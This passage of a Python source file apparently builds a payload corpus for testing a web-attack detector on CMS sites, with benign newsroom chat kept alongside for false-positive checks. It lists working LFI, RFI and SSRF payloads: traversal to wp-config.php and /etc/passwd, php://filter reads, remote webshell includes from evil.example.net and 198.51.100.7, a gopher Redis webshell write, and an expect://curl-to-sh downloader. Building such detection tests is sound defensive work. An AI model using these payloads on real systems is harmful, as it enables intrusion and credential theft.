    ("file", "/var/www/html/wp-config.php"),
    ("file", "/var/www/drupal/sites/default/settings.php"),
    ("file", "C:\\inetpub\\wwwroot\\web.config"),
    ("file", "C:/inetpub/wwwroot/App_Config/ConnectionStrings.config"),
    ("file", "C:\\Windows\\win.ini"),
    ("file", "/proc/self/environ"),
    ("img", "/proc/self/maps"),
    ("src", "file:///etc/passwd"),
    # DNN image handler (DnnImageHandler.ashx?mode=file&url=)
    ("url", "file:///C:/Windows/win.ini"),
    ("", "mode=file&url=file:///c:/windows/win.ini", *KQ),
    ("file", "/var/www/ghost/config.production.json"),
    ("file", "/var/lib/ghost/content/data/ghost.db"),
    ("file", "/srv/strapi/config/database.js"),
    ("file", "/var/www/mediawiki/LocalSettings.php"),
    ("file", "/var/www/dokuwiki/conf/local.php"),
    ("file", "/opt/atlassian/confluence/conf/server.xml"),
    ("file", "/var/atlassian/application-data/confluence/confluence.cfg.xml"),
    ("file", "/var/discourse/containers/app.yml"),
    ("file", "\\\\?\\C:\\Windows\\win.ini"),
    ("file", "/var/www/typo3/typo3conf/LocalConfiguration.php"),
    ("file", "/var/www/craft/config/db.php"),
    # Confluence widget connector (CVE-2019-3396): the Velocity _template read from the file system
    ("", '{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/'
         '23464dc5","width":"1000","height":"1000","_template":"file:///etc/passwd"}}}', *JB),
]

# null-byte-truncation: NUL (or path-length truncation) cutting off the extension the CMS appends
# Target: PHP < 5.3.4 include/fopen in Joomla components and old CMS language/template loaders.
NULL_BYTE: list[Item] = [
    # Joomla components: index.php?option=com_...&controller=../../../etc/passwd%00
    ("controller", "../../../../../../../../etc/passwd\x00"),
    ("", "option=com_jinventory&controller=../../../../../../../../etc/passwd%00", *KQ),
    ("", "option=com_ckforms&controller=../../../../../../../../../../proc/self/environ%00", *KQ),
    ("", "option=com_jphone&controller=../../../../../../../../etc/passwd%00&task=display", *KF),
    ("view", "../../../../../configuration.php\x00"),
    ("controller", "..\\..\\..\\..\\boot.ini\x00"),
    ("lang", "../../../../../../etc/passwd\x00.php"),
    ("template", "../../../../wp-config.php\x00.html"),
    # image resizer that appends or checks .jpg
    ("img", "../../../wp-config.php\x00.jpg"),
    # the NUL written as text, for a handler that urldecode()s once more
    ("file", "../../../../../etc/passwd%00"),
    ("page", "../../../../etc/passwd%00.php"),
    ("theme", "../../../../../etc/passwd\x00"),
    # path-length truncation (PHP before 5.3 cut paths at MAXPATHLEN): ./ repeated past 4096 characters
    ("tpl", "../../../../etc/passwd" + "/." * 2100),
    ("lang", "../../../../etc/passwd" + "/./" * 1400),
    # Candidate Application Form expects .pdf
    ("fileName", "../../../../etc/passwd\x00.pdf"),
    ("module", "../../../../../../../etc/passwd\x00"),
    ("plugin", "../../../../../../etc/passwd\x00"),
    ("skin", "../../../../../../../../../etc/passwd\x00"),
    ("layout", "../../../../../../../../../../etc/passwd\x00"),
    ("file", "../../../etc/passwd%2500.jpg"),
    ("file", "/etc/passwd\x00"),
    ("language", "../../../../../../../../proc/self/environ\x00"),
    ("file", "C:\\inetpub\\wwwroot\\web.config\x00.txt"),
    ("file", "../../../../wp-config.php\x00"),
]

# php-wrapper-lfi: php://filter, phar://, zip://, compress.zlib://, glob:// through an include or file read
# Target: the PHP interpreter's stream wrappers behind WordPress, Joomla, Drupal, TYPO3, MediaWiki, phpBB, Craft.
PHP_WRAPPER: list[Item] = [
    ("file", "php://filter/convert.base64-encode/resource=../wp-config.php"),
    ("page", "php://filter/read=convert.base64-encode/resource=configuration.php"),
    ("template", "php://filter/convert.base64-encode/resource=/var/www/html/sites/default/settings.php"),
    ("file", "php://filter/string.rot13/resource=LocalSettings.php"),
    ("file", "php://filter/zlib.deflate/convert.base64-encode/resource=config.php"),
    ("file", "php://filter/convert.iconv.utf-8.utf-16/resource=typo3conf/LocalConfiguration.php"),
    ("file", "pHp://FilTer/convert.base64-encode/resource=wp-config.php"),
    ("file", "php://filter/resource=/etc/passwd"),
    ("img", "php://filter/convert.base64-encode/resource=../../../../wp-config.php"),
    ("", "action=revslider_show_image&img=php://filter/convert.base64-encode/resource=../wp-config.php", *KQ),
    ("page", "php://input"),
    # phar:// on a WordPress media upload (the 2018 phar deserialization research)
    ("file", "phar://../wp-content/uploads/2024/05/avatar.jpg/x.php"),
    ("file", "phar:///var/www/html/wp-content/uploads/2024/06/poc.gif"),
    ("file", "zip://../wp-content/uploads/2024/05/theme.zip#shell.php"),
    ("file", "zip:///var/www/html/images/upload.zip%23shell"),
    ("file", "compress.zlib://../../../../wp-config.php"),
    ("file", "compress.bzip2://../../configuration.php"),
    ("file", "glob:///var/www/html/wp-content/plugins/*"),
    ("file", "php://filter/convert.quoted-printable-encode/resource=../../config/general.php"),
    # iconv filter chain (the start of a php_filter_chain RCE) on php://temp
    ("file", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
             "convert.base64-decode/resource=php://temp"),
    ("page", "php://filter/read=string.toupper|string.rot13/resource=index.php"),
    ("file", "php://filter/convert.base64-encode/resource=../../../../../../proc/self/environ"),
    ("file", "php://filter/convert.base64-encode/resource=index"),
    ("file", "php://fd/0"),
]

# log-poisoning-target: files an attacker can write text into first (logs, sessions, wiki pages), then include
# Target: PHP include of that file (User-Agent / comment / login name carrying the PHP beforehand).
LOG_TARGETS: list[Item] = [
    ("file", "../../../../../../var/log/apache2/access.log"),
    ("file", "../../../../../../var/log/nginx/access.log"),
    ("file", "/var/log/httpd/access_log"),
    ("file", "../../../../../../var/log/auth.log"),
    ("file", "/var/log/mail.log"),
    ("file", "/var/log/vsftpd.log"),
    ("file", "/proc/self/fd/10"),
    ("file", "../../../../../../var/lib/php/sessions/sess_8a7d3f2c9b1e4d5f6a7b8c9d0e1f2a3b"),
    ("file", "/tmp/sess_8a7d3f2c9b1e4d5f6a7b8c9d0e1f2a3b"),
    # WordPress WP_DEBUG_LOG: any notice with request data lands there
    ("file", "../../../../wp-content/debug.log"),
    ("file", "/var/log/php-fpm/www-error.log"),
    # cPanel hosting
    ("file", "/usr/local/apache/logs/access_log"),
    ("file", "/usr/local/apache/domlogs/example.com"),
    ("file", "C:\\xampp\\apache\\logs\\access.log"),
    ("file", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log"),
    ("file", "..\\..\\App_Data\\Logs\\UmbracoTraceLog.WEB01.txt"),
    # Joomla and TYPO3 logs
    ("file", "../../../../administrator/logs/error.php"),
    ("file", "../../../../typo3temp/var/log/typo3_7a1b2c3d4e.log"),
    ("file", "/var/www/ghost/content/logs/https___example_com_production.log"),
    ("file", "/var/log/apache2/error.log"),
    # DokuWiki: a wiki page edited with PHP in it, then included
    ("file", "../../../../data/pages/playground/playground.txt"),
    ("file", "/var/mail/www-data"),
    ("file", "../../../../../../var/lib/php5/sess_8a7d3f2c9b1e4d5f6a7b8c9d0e1f2a3b"),
    # WooCommerce fatal error logs
    ("file", "../../../../wp-content/uploads/wc-logs/fatal-errors-2024-06-01.log"),
]

# restricted-file-extension: backups, editor leftovers, configs, dumps and migration archives
# Target: the web root through the plugin's download handler (the files hold DB credentials and user hashes).
RESTRICTED_EXT: list[Item] = [
    ("file", "wp-config.php.bak"),
    ("file", "wp-config.php~"),
    ("file", "../wp-config.old"),
    ("file", "configuration.php.bak"),
    ("file", "../../backup/wordpress-2024-06-01.sql"),
    ("file", "../../../db_backup.sql.gz"),
    ("file", "../settings.php.orig"),
    ("file", "../.LocalSettings.php.swp"),
    ("file", "../../php.ini"),
    ("file", "../../.user.ini"),
    ("file", "../web.config.bak"),
    ("file", "../../App_Config/ConnectionStrings.config"),
    ("file", "../../config/umbracoSettings.config"),
    ("file", "../../../typo3conf/localconf.php.bak"),
    ("file", "../../../../wp-content/backup-db/wordpress_wp_2024.sql"),
    # All-in-One WP Migration and UpdraftPlus archives
    ("file", "../../../wp-content/ai1wm-backups/example.com-20240601-120000-abc123.wpress"),
    ("file", "../../../wp-content/updraft/backup_2024-06-01-1200_Example_1a2b3c4d5e6f-db.gz"),
    ("file", "../../../../dump.sql"),
    # DokuWiki, phpBB, vBulletin, eZ Publish
    ("file", "../../conf/local.php.bak"),
    ("file", "../../../config.php.old"),
    ("file", "../../includes/config.php.bak"),
    ("file", "../../../settings/override/site.ini.append.php"),
    ("file", "../../.env.backup"),
    ("file", "../web.config::$DATA"),
]

# ================================================================================================================
# rfi
# ================================================================================================================

# url-with-ip-address: the URL a CMS fetches or includes names a raw IP (the attacker's box, a metadata service,
# an internal port), in every notation
# Target: PHP include with allow_url_include, and the server-side fetchers (oEmbed proxy, pingback, feed import).
IP_URL: list[Item] = [
    # WP with Spritz: wp.spritz.content.filter.php?url=
    ("url", "http://198.51.100.7/shell.txt"),
    # Gwolle Guestbook: frontend/captcha/ajaxresponse.php?abspath= (appends wp-load.php)
    ("abspath", "http://198.51.100.7/"),
    ("mosConfig_absolute_path", "http://198.51.100.7/r57.txt"),
    ("phpbb_root_path", "http://198.51.100.7/phpbb/"),
    ("path", "http://198.51.100.7/c99.txt"),
    ("include", "http://198.51.100.7:8000/i.php"),
    ("template", "http://198.51.100.7/t.html"),
    ("lang", "http://203.0.113.9/en.php"),
    ("page", "https://198.51.100.7/p.txt"),
    # RSS/Atom aggregator (Drupal aggregator, FeedWordPress) fetching cloud metadata
    ("feed_url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    # WordPress oEmbed proxy (/wp-json/oembed/1.0/proxy?url=) to internal services
    ("url", "http://127.0.0.1:6379/"),
    ("url", "http://10.0.0.12:8080/manager/html"),
    ("url", "http://[::1]:9200/_cat/indices"),
    ("url", "http://2130706433/wp-admin/"),
    ("url", "http://0x7f000001/server-status"),
    ("url", "http://0177.0.0.1/phpmyadmin/"),
    ("url", "http://100.100.100.200/latest/meta-data/"),
    ("url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("url", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    # Ghost admin API and Strapi admin on the loopback
    ("url", "http://127.0.0.1:2368/ghost/api/admin/users/"),
    ("url", "http://127.0.0.1:1337/admin/users"),
    ("url", "http://172.17.0.1:2375/containers/json"),
    ("url", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("url", "http://127.1/server-status"),
    # media sideload ("insert from URL")
    ("image_url", "http://169.254.169.254/latest/user-data"),
    ("avatar_url", "http://127.0.0.1:11211/"),
    # DNN image handler fetching an internal URL
    ("", "mode=url&url=http://169.254.169.254/latest/meta-data/", *KQ),
    # WordPress XML-RPC pingback.ping: the "source" URL is fetched server-side
    ("", '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>'
         "http://169.254.169.254/latest/meta-data/</string></value></param><param><value><string>"
         "https://blog.example.com/?p=1</string></value></param></params></methodCall>", *XB),
    ("", '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>'
         "http://10.0.0.5:22/</string></value></param><param><value><string>https://blog.example.com/2024/06/"
         "hello-world/</string></value></param></params></methodCall>", *XB),
    ("GALLERY_BASEDIR", "http://203.0.113.9/g/"),
]

# url-with-trailing-question-mark: the classic RFI where `?` (or %3f, #, NUL) turns the suffix the CMS appends
# ("/includes/config.php", ".php") into a query string of the attacker's file
# Target: PHP include() with allow_url_include in old CMSs, components and mods.
TRAILING_Q: list[Item] = [
    ("mosConfig_absolute_path", "http://198.51.100.7/r57.txt?"),
    ("phpbb_root_path", "http://evil.example.net/shell.txt?"),
    ("abspath", "http://attacker.example/sh.txt?"),
    ("page", "http://attacker.example/shell.txt?"),
    ("include", "https://pastebin.com/raw/Xy12AbCd?"),
    ("template", "http://evil.example.net/tpl.txt??"),
    ("lang", "http://evil.example.net/lang.txt?x="),
    ("url", "http://198.51.100.7/shell.txt?"),
    ("file", "ftp://198.51.100.7/pub/s.txt?"),
    ("path", "http://evil.example.net/c99.txt?cmd=id"),
    ("dir", "http://evil.example.net/?"),
    ("theme", "http://evil.example.net/theme.txt?"),
    ("module", "https://raw.githubusercontent.com/x0rz/tools/main/s.txt?"),
    # old CMS register_globals includes, each its own variable
    ("GALLERY_BASEDIR", "http://evil.example.net/g.txt?"),
    ("include_path", "http://198.51.100.7/x.txt?"),
    ("root_path", "http://198.51.100.7/inc.txt?"),
    ("base_path", "http://evil.example.net/b.txt?"),
    ("_SERVER[DOCUMENT_ROOT]", "http://evil.example.net/d.txt?"),
    ("config[root_dir]", "http://evil.example.net/cfg.txt?"),
    ("ROOT_PATH", "http://evil.example.net/root.txt?"),
    ("mosConfig_live_site", "http://evil.example.net/live.txt?"),
    ("sitepath", "http://evil.example.net/site.txt?"),
    ("rootdir", "http://evil.example.net/rd.txt?"),
    ("basepath", "http://evil.example.net/bp.txt?"),
    # Zingiri Web Shop (WordPress): wpabspath
    ("wpabspath", "http://evil.example.net/s.txt?"),
    ("ABSPATH", "http://evil.example.net/x.txt?"),
    ("plugin", "http://evil.example.net/p.txt%3F"),
    ("page", "http://evil.example.net/s.txt\x00"),
    ("file", "http://198.51.100.7/s.txt#"),
    # Mambo / Joomla 1.0 component includes, whole request strings
    ("", "option=com_extcalendar&mosConfig_absolute_path=http://evil.example.net/s.txt?", *KQ),
    ("", "option=com_rsgallery&mosConfig_absolute_path=http://198.51.100.7/r.txt?&Itemid=1", *KQ),
]

# include-parameter-with-url: page/file/template/include/path (and their cousins) holding a remote URL
# Target: PHP include() / Velocity template loader of the CMS.
INCLUDE_PARAM: list[Item] = [
    ("page", "http://evil.example.net/shell.txt"),
    ("file", "https://attacker.example/webshell.php"),
    ("template", "http://evil.example.net/templates/index.php"),
    ("include", "http://evil.example.net/inc.php"),
    ("path", "http://evil.example.net/"),
    ("inc", "http://evil.example.net/r57.txt"),
    ("tpl", "https://evil.example.net/evil.tpl"),
    ("layout", "http://evil.example.net/layout.php"),
    ("view", "http://evil.example.net/view.txt"),
    ("module", "http://evil.example.net/mod/index.php"),
    ("content", "http://evil.example.net/c.txt"),
    ("load", "http://evil.example.net/load.php"),
    ("show", "https://evil.example.net/show.inc"),
    ("doc", "http://evil.example.net/doc.php"),
    ("style", "http://evil.example.net/style.php"),
    ("conf", "http://evil.example.net/conf.php"),
    ("pg", "http://evil.example.net/pg.txt"),
    ("skin", "http://evil.example.net/skins/monobook.php"),
    ("folder", "http://evil.example.net/f/"),
    ("language", "http://evil.example.net/lang/en.php"),
    # MediaWiki (register_globals era): $IP
    ("IP", "http://evil.example.net/mw/"),
    ("_template", "https://evil.example.net/cmd.vm"),
    # Confluence widget connector: a remote Velocity template
    ("", '{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.youtube.com/watch?'
         'v=dQw4w9WgXcQ","width":"1000","height":"1000","_template":"https://evil.example.net/cmd.vm"}}}', *JB),
    ("", "page=http://evil.example.net/shell.txt", *KQ),
    ("", "template=http://evil.example.net/t.php&action=preview", *KF),
    ("controller", "http://evil.example.net/controller.php"),
    # WP with Spritz over HTTPS
    ("url", "https://evil.example.net/shell.txt"),
    ("document", "http://evil.example.net/doc/shell.txt"),
    ("cat", "http://evil.example.net/cat.php"),
    ("action", "http://evil.example.net/act.txt"),
]

# off-domain-reference: a URL on the attacker's domain in a CMS field that fetches or includes it
# Target: TimThumb's domain whitelist, remote includes through pastebins and tunnels, userinfo confusion.
OFF_DOMAIN: list[Item] = [
    # TimThumb (WordPress themes): the whitelist is a substring match on the host
    ("src", "http://blogger.com.evil.example.net/cmd.php"),
    ("src", "http://img.youtube.com.evil.example.net/s.php"),
    ("src", "http://flickr.com.evil.example.net/x.php"),
    ("src", "http://upload.wikimedia.org.evil.example.net/w.php"),
    ("src", "http://picasa.com.evil.example.net/p.php"),
    ("abspath", "https://evil.example.net/"),
    ("url", "//evil.example.net/shell.txt"),
    ("url", "http://wordpress.org@evil.example.net/s.txt"),
    ("template", "https://raw.githubusercontent.com/attacker/tpl/main/evil.php"),
    ("include", "https://gist.githubusercontent.com/attacker/abc123/raw/shell.php"),
    ("file", "https://pastebin.com/raw/4bCdEf9H"),
    ("page", "hTTp://evil.example.net/shell.txt"),
    ("url", "http://evil.example.net:8443/s.php"),
    ("url", "https://3f2a-203-0-113-9.ngrok-free.app/shell.txt"),
    ("module", "https://evil.example.net/x.txt"),
    ("plugin", "https://evil.example.net/plugins/backdoor.php"),
    ("lang", "https://evil.example.net/lang.php"),
    ("theme", "https://evil.example.net/themes/x/functions.php"),
    # MediaWiki upload by URL ($wgAllowCopyUploads)
    ("wpUploadFileURL", "https://evil.example.net/shell.php.png"),
    # Umbraco / Sitecore rendering: a remote XSLT with script
    ("xslt", "http://evil.example.net/evil.xsl"),
    ("xsl", "https://evil.example.net/transform.xslt"),
    # Drupal: destination open redirect after login
    ("destination", "https://evil.example.net/user/login"),
    # WordPress login: redirect_to off-domain
    ("redirect_to", "https://evil.example.net/wp-admin/"),
    ("url", "https://evil.example.net\\@www.example.org/"),
    ("url", "http://evil.example.net%2f@www.example.org/"),
    ("feed_url", "http://evil.example.net/feed.php"),
    ("import_url", "https://evil.example.net/wxr-with-shell.php"),
    ("path", "https://cdn.evil.example.net/x.js.php"),
    ("include", "http://evil.example.net./inc.txt"),
    ("file", "https://xn--80ak6aa92e.com/s.txt"),
]

# protocol-scheme: other schemes PHP and the fetchers accept (ftp, ftps, smb, UNC, data:, expect:, gopher, dict)
# Target: PHP include/fopen wrappers (UNC works on Windows even with allow_url_include off), curl in fetchers.
PROTOCOLS: list[Item] = [
    ("file", "ftp://anonymous:guest@evil.example.net/pub/shell.php"),
    ("page", "ftps://evil.example.net/s.txt"),
    ("file", "\\\\198.51.100.7\\share\\shell.php"),
    ("file", "\\\\evil.example.net\\webdav\\s.php"),
    ("file", "//198.51.100.7/share/s.php"),
    ("file", "smb://198.51.100.7/share/s.php"),
    ("file", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("page", "data:text/plain,<?php system('id'); ?>"),
    ("file", "data://text/plain,<?php phpinfo();?>"),
    ("file", "expect://id"),
    ("file", "expect://ls -la /var/www/html"),
    # gopher to Redis through the oEmbed proxy: write a web shell with CONFIG SET
    ("url", "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0A"
            "CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASAVE%0D%0A"),
    ("url", "dict://127.0.0.1:11211/stats"),
    ("url", "tftp://198.51.100.7/s.php"),
    # Confluence (Java): jar: and netdoc: through the widget connector / URL fetch
    ("url", "jar:http://evil.example.net/x.jar!/"),
    ("url", "netdoc:///etc/passwd"),
    ("url", "sftp://evil.example.net:22/"),
    ("url", "ssh2.exec://root:toor@198.51.100.7:22/id"),
    ("", '{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/'
         '23464dc5","width":"1000","height":"1000","_template":"ftp://evil.example.net/cmd.vm"}}}', *JB),
    ("file", "\\\\evil.example.net@SSL\\DavWWWRoot\\s.php"),
    ("file", "\\\\?\\UNC\\198.51.100.7\\share\\s.php"),
    ("file", "DATA://text/plain;base64,PD9waHAgcGFzc3RocnUoJF9HRVRbJ2MnXSk7"),
    ("template", "data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
    ("file", "expect://curl${IFS}http://198.51.100.7/x|sh"),
    ("url", "ldap://evil.example.net:389/o=wp"),
    ("url", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@evil.example.net>%0D%0A"),
    ("file", "ftp://198.51.100.7:2121/wp-shell.txt"),
    ("skin", "\\\\198.51.100.7\\skins\\monobook.php"),
    ("include", "php://filter/resource=http://evil.example.net/s.txt"),
    ("file", "zlib:ftp://evil.example.net/s.php.gz"),
]

FAMILY_ITEMS: list[tuple[str, str, list[Item]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE_SHELL),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader-pipe-to-shell", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_IN_CMD),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-target", LOG_TARGETS),
    ("lfi", "restricted-file-extension", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", IP_URL),
    ("rfi", "url-with-trailing-question-mark", TRAILING_Q),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocol-scheme", PROTOCOLS),
]


def _split(items: Sequence[Item]) -> tuple[list[Entry], list[str]]:
    """The entries BlindSet rotates, and beside them each one's parameter name ("": the category's rotation)."""
    entries: list[Entry] = []
    params: list[str] = []
    for item in items:
        if isinstance(item, str):
            entries.append(item)
            params.append("")
        elif len(item) == 2:
            entries.append(item[1])
            params.append(item[0])
        else:
            entries.append((item[1], item[2], item[3]))  # type: ignore[misc]
            params.append(item[0])
    return entries, params


FAMILIES: list[tuple[str, str, list[Entry]]] = []
PARAMS: dict[str, list[str]] = {}
SUB_INDEX: dict[str, int] = {}
for _s, (_category, _sub, _items) in enumerate(FAMILY_ITEMS):
    _entries, PARAMS[_sub] = _split(_items)
    FAMILIES.append((_category, _sub, _entries))
    SUB_INDEX[_sub] = _s

# the parameter names a payload without its own takes, per category
DEFAULT_NAMES = {
    "rce": ["host", "filename", "size", "domain", "path", "branch"],
    "lfi": ["file", "img", "path", "template", "page", "f"],
    "rfi": ["url", "page", "template", "include", "path", "src"],
}

# the CMS endpoints a regression suite's copy goes to
CMS_PATHS = [
    "/wp-admin/admin-ajax.php", "/index.php", "/xmlrpc.php", "/wp-json/wp/v2/media", "/node/add/article",
    "/administrator/index.php", "/typo3/index.php", "/ghost/api/admin/posts/", "/umbraco/backoffice/api/media",
    "/sitecore/shell/default.aspx", "/CMSPages/GetResource.ashx", "/DnnImageHandler.ashx", "/admin/plugins/install",
    "/items/articles", "/w/index.php", "/doku.php", "/viewtopic.php", "/ajax/render/widget_php",
    "/rest/tinymce/1/macro/preview", "/feed/",
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    documents = True
    kv_safe = "=&[]._-:/'*$!(),;{}~@%^\\"   # raw request strings keep their own %XX sequences
    raw_places = ("query", "form", "rs-query", "rs-raw-body", "param-name", "rs-param-name")
    unique = True
    xml_controls = "\n\t\r"
    raw_body_forbids = ""
    rs_paths = CMS_PATHS

    def name(self, category: str, sub: str, k: int) -> str:
        own = PARAMS[sub][k - SUB_INDEX[sub]]
        if own:
            return own
        names = DEFAULT_NAMES[category]
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed entry written as a `name=value` request string (not a JSON or XML document, not a file name)."""
        return fixed and "=" in payload and not payload.startswith(("{", "[", "<", "()"))


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by editors, web producers and site developers (Slack chat and bios,
# searches for colleagues by desk, links to CMS admin pages and articles, admin-panel notes, profiles, media and
# export file names, ordinary headers)
CHAT = [
    # editors and web producers
    "can someone republish the budget explainer? the hero image is cropped wrong on mobile",
    "the live blog embed shows a blank box again, pasting the code: <iframe src=\"https://www.youtube.com/embed/"
    "dQw4w9WgXcQ\" width=\"560\" height=\"315\" allowfullscreen></iframe>",
    "use [gallery ids=\"4821,4822,4830\" columns=\"3\"] instead of inserting the photos one by one",
    "the contact form shortcode is [contact-form-7 id=\"123\" title=\"Tips line\"], don't retype it by hand",
    "reminder: the embargo on the election results piece lifts at 22:00, schedule it, don't publish",
    "who owns the Sport section landing page? the include of the fixtures widget is pulling last week's matches",
    "I moved the old slug /2019/05/heatwave-tips to the new URL with a 301, should be live in 10 min",
    "the RSS feed at /feed/ is missing today's opinion pieces, can the night desk check the category",
    "Markdown tip: wrap code in backticks like `npm run build`, the editor keeps the formatting",
    "photo desk: please name uploads like 2024-06-01_parliament_vote_01.jpg so the media library sorts them",
    "the newsletter import failed with \"Invalid file type: export.csv\", I re-saved it as UTF-8 and it went through",
    "broken embed on the climate piece, the tweet was deleted, replacing it with a screenshot",
    "can we add the cat picture back to the pets column header? the old path 404s after the migration",
    "the byline template shows the author twice on opinion pages, looks like the partial is included two times",
    "headline A/B test finished, version B won by 12% on clicks",
    "copy desk asks: is it \"e-mail\" or \"email\" in the style guide? (it's email)",
    "the paywall snippet is cached, purge the page in the CDN after you update the teaser",
    "anyone know why the image resizer serves a 1x1 pixel for the podcast artwork?",
    "the events calendar shows times in UTC, the template should use the site timezone",
    "the podcast player embed needs https, the http one gets blocked as mixed content",
    # site developers
    "WordPress 6.5.4 is out, updating staging first, then prod tonight after 23:00",
    "plugin updates this week: Yoast, WooCommerce and Redirection; I'll run them on staging first",
    "turned on WP_DEBUG_LOG on staging only, the log is in wp-content/debug.log if you need it",
    "ran `wp search-replace 'http://old.example.org' 'https://www.example.org' --dry-run` first, 4,213 replacements",
    "drush cr fixed the stale menu, the Views cache was holding the old link",
    "composer require drupal/pathauto:^1.12 then drush updb, done on the dev site",
    "in the Twig template it's {% include 'partials/byline.html.twig' with {author: node.uid.entity} %}",
    "the Liquid snippet is {% render 'article-card', article: article %} and it needs the image filter",
    "Ghost theme: {{> \"post-card\"}} lives in partials/, don't use a relative ../partials path in the loop",
    "the Hugo shortcode is {{< figure src=\"/images/map.png\" caption=\"Flood zones\" >}}",
    "Joomla 4 migration: the component index.php?option=com_content&view=article&id=12 links still work",
    "TYPO3 cache flush from the backend fixed it, no need to touch the install tool",
    "Strapi webhook to Netlify fires on publish only, drafts won't trigger a build",
    "the Contentful migration script needs the management token, not the delivery one",
    "Sanity GROQ query for the homepage: *[_type == \"article\"] | order(publishedAt desc)[0...10]",
    "Directus flows: the \"run script\" step can only use the sandboxed API, no require()",
    "MediaWiki upgrade to 1.41 is done, LocalSettings.php only needed the new skin line",
    "Confluence page for the redirect rules is under WEB > Runbooks > Redirects",
    "DokuWiki is read-only during the backup window, 02:00 to 02:30",
    "phpBB board moved behind SSO, old bookmarks to viewtopic.php?t=1234 still redirect",
    "Discourse digest emails were going to spam, fixed the SPF record",
    "the .htaccess rule is `RewriteRule ^amp/(.*)$ /$1 [R=301,L]`, it drops the AMP prefix",
    "nginx redirect for the old feed: `location = /rss.xml { return 301 /feed/; }`",
    "image sizes are defined in functions.php with add_image_size('card', 640, 360, true)",
    "ImageMagick policy.xml blocks PDF thumbnails now, that's why the PDF previews are grey",
    "the cron for scheduled posts: `*/5 * * * * curl -s https://www.example.org/wp-cron.php > /dev/null`",
    "ffmpeg makes the video poster frames on upload, takes ~3 s per clip",
    "the export tool writes wordpress.2024-06-01.xml to the downloads folder, grab it from there",
    "Umbraco 13 upgrade: the media picker config moved to appsettings.json",
    "Sitecore publishing queue is stuck again, restarting the publishing service",
    "Kentico staging sync finished, 42 documents moved to production",
    "DNN site is being retired in Q3, content moves to the headless stack",
    "the Craft CMS project config is in config/project/, commit it with the migration",
    "wget the sitemap with `wget -O - https://www.example.org/sitemap.xml | head` to check it quickly",
    "git pull on the theme repo, then npm run build; the CI deploys the dist folder",
    "the XML-RPC endpoint is disabled, Jetpack uses the REST API now",
    "the pingback spam is gone since we turned off pingbacks in Settings > Discussion",
    "page builder tip: Elementor sections have a \"custom CSS\" tab, please don't paste inline styles into text",
    "TinyMCE strips the <script> tag, that's expected; use the embed block for widgets",
    "the import of the old Blogger XML mapped 1,200 comments to the right posts",
    # bios
    "Web producer on the Features desk. Shortcodes, galleries, and the occasional broken embed.",
    "Night editor, News desk. I publish, I schedule, I fix headlines at 2am.",
    "Senior WordPress developer. Themes, plugins, wp-cli, and too many redirect rules.",
    "Drupal site builder. Views, paragraphs, Twig templates and config sync.",
    "Audience team: SEO, newsletters, RSS and the homepage layout.",
    "Photo editor. I name files properly and I expect you to as well.",
    "Frontend dev for the headless CMS: Next.js, Sanity and a lot of GROQ.",
    "Sysadmin for the publishing platform. nginx, PHP-FPM, ImageMagick and backups.",
    "Data journalist. CSV exports, charts and the occasional SQL dump from the archive.",
    "Wiki gardener: I keep the MediaWiki style guide and the Confluence runbooks tidy.",
]

SEARCHES = [
    "features desk", "night editor", "web producer", "sport", "audience team", "photo desk", "copy desk",
    "opinion", "newsletter", "wordpress developer", "drupal", "site builder", "seo", "homepage editor",
    "live blog", "social media", "podcast producer", "data desk", "graphics", "archive", "video producer",
    "culture section", "business desk", "weather", "standards editor", "ghost", "strapi", "umbraco",
    "O'Neill", "Müller", "D'Souza", "include", "template", "path", "page",
]

URLS = [
    "https://cms.example.org/wp-admin/post.php?post=48213&action=edit",
    "https://cms.example.org/wp-admin/upload.php?mode=list&attachment-filter=image",
    "https://www.example.org/news/2024/06/01/budget-vote-live/",
    "https://cms.example.org/node/1234/edit?destination=/admin/content",
    "https://cms.example.org/administrator/index.php?option=com_content&view=articles",
    "https://wiki.example.org/index.php?title=Style_guide&action=edit&section=3",
    "https://example.atlassian.net/wiki/spaces/WEB/pages/123456/Redirects",
